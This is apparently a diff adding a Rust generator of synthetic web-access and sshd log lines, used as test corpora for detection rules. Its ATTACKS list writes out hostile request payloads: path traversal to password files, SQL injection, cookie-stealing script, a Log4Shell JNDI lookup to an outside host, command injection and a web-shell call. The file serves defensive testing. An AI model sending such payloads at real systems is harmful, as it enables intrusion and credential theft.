@@ -1,0 +1,179 @@
+//! Log lines of any number from a seed: access logs with a share of attacks, and sshd under RFC 3164.
+//! Values repeat as in real traffic: few agents and pages are frequent, addresses and queries vary.
+
+use std::fmt::Write;
+
+use event::Timestamp;
+
+/// A small generator of pseudo-random numbers (xorshift64*), enough for corpora.
+#[derive(Clone, Debug)]
+pub struct Random(u64);
+
+impl Random {
+    pub fn new(seed: u64) -> Self {
+        Random(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1)
+    }
+
+    pub fn next(&mut self) -> u64 {
+        self.0 ^= self.0 >> 12;
+        self.0 ^= self.0 << 25;
+        self.0 ^= self.0 >> 27;
+        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
+    }
+
+    /// A number below `bound`.
+    pub fn below(&mut self, bound: u64) -> u64 {
+        self.next() % bound
+    }
+
+    /// An element; the first ones come much more often than the last ones.
+    pub fn skewed<'a, T>(&mut self, list: &'a [T]) -> &'a T {
+        let share = self.below(1 << 20) as f64 / (1 << 20) as f64;
+        &list[((share * share * list.len() as f64) as usize).min(list.len() - 1)]
+    }
+}
+
+const MONTHS: [&str; 12] = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
+const SECTIONS: [&str; 12] = [
+    "products", "articles", "blog", "account", "cart", "static/css", "static/js", "images", "api/v2/items", "api/v2/users",
+    "help", "downloads",
+];
+const WORDS: [&str; 24] = [
+    "garden", "winter", "blue", "coffee", "travel", "running", "shoes", "lamp", "wooden", "table", "review", "summer",
+    "kitchen", "paper", "guide", "music", "river", "mountain", "camera", "bicycle", "pocket", "letter", "union", "select",
+];
+const ENGINES: [&str; 6] = [
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/",
+    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/",
+    "okhttp/",
+    "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example.org/info) rev/",
+];
+/// Requests that own rules look for, in several encodings.
+const ATTACKS: [(&str, &str); 12] = [
+    ("/download?file=../../../../etc/passwd", "curl/8.5.0"),
+    ("/static/..%2f..%2f..%2f..%2fetc/shadow", "curl/8.5.0"),
+    ("/item?id=1'%20UNION%20SELECT%20username,password%20FROM%20users--", "sqlmap/1.8.2#stable (https://sqlmap.org)"),
+    ("/item?id=1%27%20OR%20%271%27=%271", "Mozilla/5.0"),
+    ("/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "Mozilla/5.0"),
+    ("/?x=${jndi:ldap://198.51.100.66:1389/a}", "Mozilla/5.0"),
+    ("/.env", "python-requests/2.31"),
+    ("/.git/config", "Mozilla/5.0 zgrab/0.x"),
+    ("/cgi-bin/ping?host=127.0.0.1;cat%20/etc/passwd", "Mozilla/5.0"),
+    ("/uploads/shell.php?cmd=id", "Mozilla/5.0"),
+    ("/wp-login.php", "Mozilla/5.0 (Nikto/2.5.0)"),
+    ("/phpmyadmin/index.php", "Mozilla/5.0"),
+];
+
+/// Makes access lines in combined format, about 220 bytes each.
+#[derive(Debug)]
+pub struct Access {
+    random: Random,
+    agents: Vec<String>,
+    pages: Vec<String>,
+    second: i64,
+    /// Attacks per 10,000 lines.
+    attacks_per_10k: u64,
+}
+
+impl Access {
+    pub fn new(seed: u64, attacks_per_10k: u64) -> Self {
+        let mut random = Random::new(seed);
+        let agents = (0..400)
+            .map(|at| format!("{}{}.{}.{}", ENGINES[at % ENGINES.len()], 90 + at % 40, random.below(9), random.below(6000)))
+            .collect();
+        let pages = (0..14_000)
+            .map(|at| {
+                let section = SECTIONS[random.below(12) as usize];
+                let word = |random: &mut Random| WORDS[random.below(22) as usize];
+                format!("/{section}/{}-{}-{}-{at}.html", word(&mut random), word(&mut random), word(&mut random))
+            })
+            .collect();
+        Access { random, agents, pages, second: 1_790_000_000, attacks_per_10k }
+    }
+
+    pub fn line(&mut self, out: &mut String) {
+        if self.random.below(40) == 0 {
+            self.second += 1;
+        }
+        let attack = self.random.below(10_000) < self.attacks_per_10k;
+        let address = if attack { self.random.below(200) + (198 << 24) } else { self.random.below(30_000) * 977 + (81 << 24) };
+        let octets = (address as u32).to_be_bytes();
+        let stamp = clf(self.second);
+        let status = *self.random.skewed(&[200, 200, 200, 200, 304, 301, 206, 404, 403, 500]);
+        let bytes = self.random.below(60_000);
+        let [a, b, c, d] = octets;
+        let _ = write!(out, "{a}.{b}.{c}.{d} - - [{stamp}] \"");
+        if attack {
+            let (target, agent) = ATTACKS[self.random.below(ATTACKS.len() as u64) as usize];
+            let _ = writeln!(out, "GET {target} HTTP/1.1\" {status} {bytes} \"-\" \"{agent}\"");
+            return;
+        }
+        let method = *self.random.skewed(&["GET", "GET", "GET", "GET", "GET", "POST", "HEAD", "PUT"]);
+        let page = self.random.skewed(&self.pages).as_str();
+        let _ = write!(out, "{method} {page}");
+        if self.random.below(3) == 0 {
+            let (first, second) = (self.random.below(24) as usize, self.random.below(24) as usize);
+            let _ = write!(out, "?q={}+{}&page={}", WORDS[first], WORDS[second], self.random.below(90));
+        }
+        let referrer = self.random.below(60) as usize;
+        let agent = self.random.skewed(&self.agents).as_str();
+        let _ = writeln!(
+            out,
+            " HTTP/1.1\" {status} {bytes} \"https://www.example.org/{}/{}\" \"{agent}\"",
+            SECTIONS[referrer % 12],
+            WORDS[referrer % 24]
+        );
+    }
+}
+
+/// Makes sshd lines with PRI, BSD stamp and host, about 120 bytes each.
+#[derive(Debug)]
+pub struct Sshd {
+    random: Random,
+    second: i64,
+}
+
+impl Sshd {
+    pub fn new(seed: u64) -> Self {
+        Sshd { random: Random::new(seed), second: 1_790_000_000 }
+    }
+
+    pub fn line(&mut self, out: &mut String) {
+        if self.random.below(20) == 0 {
+            self.second += 1;
+        }
+        let [a, b, c, d] = ((self.random.below(50_000) * 7919 + (91 << 24)) as u32).to_be_bytes();
+        let (pid, port) = (1000 + self.random.below(60_000), 1024 + self.random.below(60_000));
+        let host = self.random.below(40);
+        let user = *self.random.skewed(&["root", "admin", "deploy", "alice", "bob", "oracle", "postgres", "git", "test", "www"]);
+        let stamp = bsd(self.second);
+        let _ = write!(out, "<38>{stamp} web{host:02} sshd[{pid}]: ");
+        let _ = match self.random.below(8) {
+            0..=2 => writeln!(out, "Failed password for {user} from {a}.{b}.{c}.{d} port {port} ssh2"),
+            3 => writeln!(out, "Failed password for invalid user {user}{port} from {a}.{b}.{c}.{d} port {port} ssh2"),
+            4 => writeln!(out, "Invalid user {user}{port} from {a}.{b}.{c}.{d} port {port}"),
+            5 => writeln!(out, "Accepted publickey for {user} from {a}.{b}.{c}.{d} port {port} ssh2: ED25519 SHA256:4Tq{pid}xyz"),
+            6 => writeln!(out, "Connection closed by authenticating user {user} {a}.{b}.{c}.{d} port {port} [preauth]"),
+            _ => writeln!(out, "Disconnected from user {user} {a}.{b}.{c}.{d} port {port}"),
+        };
+    }
+}
+
+/// `YYYY-MM-DDThh:mm:ssZ`, cut into the parts that other stamps are made of.
+fn parts(second: i64) -> (String, usize) {
+    let text = Timestamp::from_unix_seconds(second).to_string();
+    let month = text[5..7].parse::<usize>().unwrap_or(1);
+    (text, month - 1)
+}
+
+fn clf(second: i64) -> String {
+    let (text, month) = parts(second);
+    format!("{}/{}/{}:{} +0000", &text[8..10], MONTHS[month], &text[..4], &text[11..19])
+}
+
+fn bsd(second: i64) -> String {
+    let (text, month) = parts(second);
+    format!("{} {:>2} {}", MONTHS[month], text[8..10].trim_start_matches('0'), &text[11..19])
+}
